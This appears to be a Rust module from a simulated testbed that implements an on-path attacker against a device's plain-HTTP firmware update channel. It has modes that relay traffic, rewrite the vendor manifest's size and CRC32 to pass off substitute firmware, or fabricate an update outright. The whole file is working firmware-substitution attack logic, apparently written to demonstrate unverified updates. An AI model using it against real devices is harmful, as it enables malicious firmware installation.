//! On-path attacker between the PCD and the vendor server.
//!
//! The PCD is pointed at the interceptor instead of the vendor — the
//! network position a malicious hotspot or DNS answer yields against
//! plain-HTTP update traffic.  Three behaviours:
//!
//! * [`Attack::Passthrough`]: relay requests and responses unchanged
//!   (control case).
//! * [`Attack::SwapFirmware`]: relay the vendor's manifest, but fix up
//!   its size and checksum to describe the substitute firmware, and
//!   serve that substitute on the firmware fetch.  Works whenever the
//!   vendor actually has an update out.
//! * [`Attack::FakeAvailability`]: answer the manifest poll with a
//!   fabricated document and serve the substitute without consulting
//!   the vendor at all — the stronger attacker that needs no official
//!   update to piggyback on.
//!
//! Fixing up size/checksum matters: those manifest fields describe the
//! file in flight, and a mismatch could make even a non-verifying
//! client stumble.  Keeping them consistent is free for the attacker.

use std::io::BufReader;
use std::net::SocketAddr;

use super::http::{self, read_request, write_response, Response};
use super::manifest::UpdateManifest;
use super::{spawn_node, EventLog, NodeHandle};

/// What the interceptor does with the traffic.
pub enum Attack {
    Passthrough,
    SwapFirmware { firmware: Vec<u8> },
    FakeAvailability { manifest: UpdateManifest, firmware: Vec<u8> },
}

/// Start an interceptor in front of `upstream`.
/// `FakeAvailability` never contacts the upstream.
pub fn spawn(upstream: SocketAddr, attack: Attack, log: EventLog) -> std::io::Result<NodeHandle> {
    let handle = spawn_node(move |stream| {
        let mut reader = BufReader::new(match stream.try_clone() {
            Ok(s) => s,
            Err(_) => return,
        });
        let Ok(request) = read_request(&mut reader) else { return };
        let mut stream = stream;
        let response = respond(upstream, &attack, &request.method, &request.path, &log);
        let _ = write_response(&mut stream, &response);
    })?;
    Ok(handle)
}

fn relay(upstream: SocketAddr, method: &str, path: &str) -> Response {
    if method != "GET" {
        return Response::not_found();
    }
    match http::get(upstream, path) {
        Ok(response) => response,
        Err(e) => Response::bad_gateway(&format!("upstream unreachable: {e}")),
    }
}

fn respond(
    upstream: SocketAddr,
    attack: &Attack,
    method: &str,
    path: &str,
    log: &EventLog,
) -> Response {
    match attack {
        Attack::Passthrough => {
            log.note("intercept", format!("passthrough {method} {path}"));
            relay(upstream, method, path)
        }
        Attack::SwapFirmware { firmware } => match path {
            "/manifest" => {
                let upstream_response = relay(upstream, method, path);
                if upstream_response.status != 200 {
                    return upstream_response;
                }
                let Ok(text) = std::str::from_utf8(&upstream_response.body) else {
                    return upstream_response;
                };
                match UpdateManifest::from_json(text) {
                    Ok(mut manifest) if manifest.available => {
                        // Same version, same url: only the fields that
                        // must match the swapped file change.
                        manifest.size = firmware.len() as u64;
                        manifest.checksum = afw::crc32::crc32(firmware);
                        log.note(
                            "intercept",
                            format!(
                                "rewriting manifest for substitute ({} bytes, 0x{:08x})",
                                manifest.size, manifest.checksum
                            ),
                        );
                        Response::ok("application/json", manifest.to_json().into_bytes())
                    }
                    _ => {
                        log.note("intercept", "no update upstream; nothing to swap");
                        upstream_response
                    }
                }
            }
            _ => {
                log.note(
                    "intercept",
                    format!("serving substitute firmware ({} bytes)", firmware.len()),
                );
                Response::ok("application/octet-stream", firmware.clone())
            }
        },
        Attack::FakeAvailability { manifest, firmware } => match path {
            "/manifest" => {
                log.note(
                    "intercept",
                    format!("fabricating manifest (version {})", manifest.firmware_version),
                );
                Response::ok("application/json", manifest.to_json().into_bytes())
            }
            _ => {
                log.note(
                    "intercept",
                    format!("serving substitute firmware ({} bytes)", firmware.len()),
                );
                Response::ok("application/octet-stream", firmware.clone())
            }
        },
    }
}
